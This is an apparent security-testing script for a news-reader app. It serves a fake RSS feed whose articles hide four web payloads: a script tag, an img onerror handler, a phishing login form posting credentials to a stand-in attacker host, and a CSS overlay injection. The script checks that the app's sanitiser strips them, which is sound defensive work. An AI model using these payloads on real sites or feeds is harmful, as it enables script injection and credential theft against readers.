"""
Hostile RSS feed server for security testing.

Serves a feed that looks normal but hides four attacks inside article
content: a <script> tag, an <img onerror> handler, a phishing <form>, and a
page-wide <style> block. Subscribe to it and check that none of them survives
into what the API returns.

Run with:
    BLOCK_PRIVATE_NETWORKS=false python -m uvicorn newsreader.server:app --port 5005
    python -m newsreader.xss_feed_server
then add http://localhost:8642/feed as a feed.
"""

import logging
from datetime import datetime, timezone
from email.utils import format_datetime

from aiohttp import web

logger = logging.getLogger(__name__)

PORT = 8642

ATTACK_GUIDS = [
    "attack-1-script-tag",
    "attack-2-event-handler",
    "attack-3-html-injection",
    "attack-4-css-injection",
]


def build_malicious_feed(base_url: str = f"http://localhost:{PORT}", now: datetime | None = None) -> str:
    """Build the hostile RSS 2.0 document."""
    pub_date = format_datetime(now or datetime.now(timezone.utc), usegmt=True)

    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <title>Totally Legit News</title>
    <link>{base_url}</link>
    <description>A perfectly normal news feed, nothing to see here.</description>

    <item>
      <title>Breaking: Major Discovery in Science</title>
      <link>{base_url}/article-1</link>
      <guid>attack-1-script-tag</guid>
      <pubDate>{pub_date}</pubDate>
      <description>A fascinating article about science.</description>
      <content:encoded><![CDATA[
        <h2>Interesting Article</h2>
        <p>This looks like a normal article, but hidden below is a script tag:</p>
        <script>
          document.title = 'HACKED: XSS via script tag';
          alert('XSS Attack #1: script tag executed');
        </script>
        <p>If you see an alert box, the attack worked.</p>
      ]]></content:encoded>
    </item>

    <item>
      <title>Top 10 Travel Destinations for 2026</title>
      <link>{base_url}/article-2</link>
      <guid>attack-2-event-handler</guid>
      <pubDate>{pub_date}</pubDate>
      <description>Beautiful places to visit this year.</description>
      <content:encoded><![CDATA[
        <h2>Travel Guide</h2>
        <p>Check out this beautiful photo:</p>
        <img src="https://doesnotexist.invalid/photo.jpg"
             onerror="document.title='HACKED: XSS via onerror'; this.outerHTML='<div>XSS Attack #2</div>'" />
        <p>Nice destinations, right?</p>
      ]]></content:encoded>
    </item>

    <item>
      <title>Recipe: Grandma's Secret Pasta</title>
      <link>{base_url}/article-3</link>
      <guid>attack-3-html-injection</guid>
      <pubDate>{pub_date}</pubDate>
      <description>A delicious pasta recipe.</description>
      <content:encoded><![CDATA[
        <h2>Grandma's Pasta</h2>
        <p>Before the recipe, please verify your identity:</p>
        <div style="border:2px solid #e53e3e; border-radius:12px; padding:24px; background:#fff5f5;">
          <h3 style="color:#c53030;">Session Expired</h3>
          <p style="color:#742a2a;">Your session has expired. Please re-enter your credentials to continue reading.</p>
          <form action="https://evil-attacker-site.example.com/steal" method="POST">
            <input type="email" placeholder="Email address" />
            <input type="password" placeholder="Password" />
            <button type="submit">Sign In to Continue Reading</button>
          </form>
        </div>
        <p>Mix the flour with eggs...</p>
      ]]></content:encoded>
    </item>

    <item>
      <title>Stock Market Update: Bull Run Continues</title>
      <link>{base_url}/article-4</link>
      <guid>attack-4-css-injection</guid>
      <pubDate>{pub_date}</pubDate>
      <description>Markets hit all-time highs.</description>
      <content:encoded><![CDATA[
        <style>
          body::after {{
            content: 'CSS Injection Active';
            position: fixed;
            bottom: 0;
            left: 0;
            right: 0;
            background: #e53e3e;
            z-index: 99999;
          }}
        </style>
        <h2>Markets Soaring</h2>
        <p>The S&amp;P 500 closed at record highs today.</p>
      ]]></content:encoded>
    </item>

  </channel>
</rss>"""


async def handle_feed(request: web.Request) -> web.Response:
    base_url = f"{request.scheme}://{request.host}"
    logger.info(f"Served malicious feed to {request.headers.get('User-Agent', 'unknown client')}")
    return web.Response(
        text=build_malicious_feed(base_url),
        content_type="application/rss+xml",
    )


async def handle_index(request: web.Request) -> web.Response:
    return web.Response(
        text=f"<h1>Malicious Feed Server</h1><p>Add <code>http://localhost:{PORT}/feed</code> as a feed.</p>",
        content_type="text/html",
    )


def create_app() -> web.Application:
    app = web.Application()
    app.router.add_get("/feed", handle_feed)
    app.router.add_get("/", handle_index)
    return app


def main():
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    logger.info(f"Malicious feed at http://localhost:{PORT}/feed")
    web.run_app(create_app(), host="127.0.0.1", port=PORT)


if __name__ == "__main__":
    main()
